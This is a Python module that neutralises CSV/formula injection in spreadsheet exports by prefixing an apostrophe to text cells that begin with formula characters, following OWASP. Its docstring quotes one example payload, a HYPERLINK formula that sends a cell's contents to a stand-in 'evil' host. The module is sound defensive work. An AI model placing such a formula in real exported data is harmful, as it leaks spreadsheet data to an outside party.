"""CSV files people open in spreadsheets: cells that would run as formulas are neutralised.

A charger chooses its own idTag, a host names its locations: a value such as
`=HYPERLINK("http://evil/?"&A1)` written unchanged into a CSV runs as a formula when the
file is opened in Excel or LibreOffice (CSV/formula injection). Following OWASP, a text
cell starting with =, +, -, @, tab or carriage return gets a leading apostrophe, which
spreadsheets show as plain text. Numbers (and text that is just a number, like -3.50)
are left alone: they cannot be formulas and must stay numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, value: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """Return `value` safe to put in a spreadsheet cell (see the module docstring)."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeCsvWriter:
    """csv.writer whose rows go through safe_cell(); use it for every CSV export."""

    def __init__(self, handle: _Writable, **kwargs: Any) -> None:
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: _Writable, **kwargs: Any) -> SafeCsvWriter:
    """Return a CSV writer for `handle` that neutralises formula cells."""
    return SafeCsvWriter(handle, **kwargs)
